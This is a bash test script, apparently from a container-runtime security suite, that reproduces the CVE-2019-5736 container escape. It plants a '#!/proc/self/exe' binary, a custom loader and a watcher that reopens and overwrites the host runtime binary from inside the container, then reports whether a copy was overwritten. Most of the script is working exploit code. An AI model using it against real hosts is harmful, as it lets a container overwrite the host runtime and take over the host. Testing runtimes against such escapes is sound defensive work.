#!/bin/bash
# CVE-2019-5736, `exec` into a running container: the attacker owns the container; the
# operator later runs `RUNTIME exec ID /evil` (any binary the attacker replaced will do), and
# /evil is `#!/proc/self/exe`, so the runtime's exec helper inside the container makes the
# kernel run the runtime binary again, inside the container. Two routes to its file:
#  - dynamically linked runtime: the image's ELF loader is evil-ld.S, which opens
#    /proc/self/exe read-only as fd 9 and execs /pwn.sh (which detaches and loops writing it);
#  - any runtime: the container's pid 1 is a watcher that looks for a process whose
#    /proc/PID/exe is not busybox, opens that exe (`exec 3</proc/PID/exe`), kills the process
#    and loops writing /proc/self/fd/3 until no process executes the binary any more (ETXTBSY).
#    So that the watcher's slow shell loop can catch it, the exec's stderr is a pipe that is
#    already full (a client that does not read fast enough): the runtime binary's first write
#    to stderr (its usage error) blocks.
# Escaped = the runtime binary the attack ran (a copy in $WORK) changed.
. "$(dirname "$0")/lib.sh"

copy_runtime
before=$(sha "$RUNTIME_COPY")
B=$WORK/bundle
make_bundle "$B"
R=$B/rootfs
plant_evil_ld "$R"
printf '#!/proc/self/exe\n' >"$R/evil"
chmod 755 "$R/evil"
cat >"$R/pwn.sh" <<'EOF'
exec </dev/null >>/proc/1/fd/1 2>&1
echo "pwn: running as pid $$, fd 9 -> $(readlink /proc/self/fd/9)"
loop() {
    i=0 err=
    while [ $i -lt 150 ]; do
        err=$( (printf 'pwned\n' >/proc/self/fd/9) 2>&1) && { echo "pwn: WROTE"; exit 0; }
        case $err in *busy*) ;; *) break ;; esac
        i=$((i + 1))
        sleep 0.1
    done
    echo "pwn: write failed: $err"
}
# The runtime's exec waits for this process: let it go, or it keeps the binary busy.
loop &
EOF
cat >"$R/watch.sh" <<'EOF'
echo "watch: ready"
end=$(( $(date +%s) + 40 ))
while [ "$(date +%s)" -lt "$end" ]; do
    for d in /proc/[0-9]*; do
        p=${d#/proc/}
        [ "$p" = 1 ] && continue
        exe=$(readlink "$d/exe" 2>/dev/null) || continue
        case $exe in */busybox | "") continue ;; esac
        command exec 3<"$d/exe" 2>/dev/null || continue
        # The process may have exec'd something else in between: keep the fd only if it is
        # still what the process executes, and is not busybox.
        got=$(readlink /proc/self/fd/3)
        case $got in */busybox) exec 3<&-; continue ;; esac
        if [ "$(readlink "$d/exe" 2>/dev/null)" != "$got" ]; then exec 3<&-; continue; fi
        kill -9 "$p" 2>/dev/null
        echo "watch: got pid $p exe=$got"
        i=0 err=
        while [ $i -lt 150 ]; do
            err=$( (printf 'pwned\n' >/proc/self/fd/3) 2>&1) && { echo "watch: WROTE"; exit 0; }
            case $err in *busy*) ;; *) break ;; esac
            i=$((i + 1))
            sleep 0.1
        done
        echo "watch: write failed: $err"
        exec 3<&-
    done
done
echo "watch: gave up"
EOF
set_args "$B" sh /watch.sh

ID=$ID_PREFIX
OUT=$WORK/out
rt create --bundle "$B" "$ID" >"$OUT" 2>&1 </dev/null ||
    finish error "create failed: $(oneline "$OUT")"
rt start "$ID" >>"$OUT" 2>&1 || finish error "start failed: $(oneline "$OUT")"
wait_for "$OUT" 'watch: ready' 10 || finish error "the watcher did not start: $(oneline "$OUT")"

# The operator's stderr: a pipe that is full and that nobody reads yet.
FIFO=$WORK/stderr.fifo
mkfifo "$FIFO"
exec 7<>"$FIFO"
timeout 2 dd if=/dev/zero bs=4096 count=16 >&7 2>/dev/null
rt exec "$ID" /evil >"$WORK/exec.out" 2>"$FIFO" </dev/null &
track_pid $!
# Once the watcher holds the binary (or after a while), the operator's client reads again, so
# the runtime's own `exec` process on the host can finish and stop executing the binary.
wait_for "$OUT" 'watch: got|pwn: running' 8
sleep 0.5
cat "$FIFO" >/dev/null &
track_pid $!
wait_for "$OUT" 'WROTE|write failed|watch: gave up' 20
for e in /proc/[0-9]*/exe; do
    [ "$(readlink "$e" 2>/dev/null)" = "$RUNTIME_COPY" ] && log "still executing the copy: ${e%/exe}"
done
log "container output:"
cat "$OUT" "$WORK/exec.out"
after=$(sha "$RUNTIME_COPY")
if [ "$before" != "$after" ]; then
    finish escaped "the runtime binary (copy) was overwritten from inside the container ($(grep -oE '(watch|pwn): WROTE' "$OUT" | head -n1 | sed 's/: WROTE/ route/')): now starts with '$(head -c 20 "$RUNTIME_COPY" | tr -cd '[:print:]')'"
fi
if grep -qE 'watch: got|pwn: running' "$OUT"; then
    finish blocked "the runtime binary was reached inside the container ($(grep -E 'watch: got|pwn: running' "$OUT" | head -n1)) but could not be written: $(grep -h 'write failed' "$OUT" | head -n1 | sed 's/.*write failed: //')"
fi
finish error "neither the planted loader nor the watcher ever saw the runtime binary run inside the container: $(oneline "$OUT" 3) $(oneline "$WORK/exec.out" 2)"
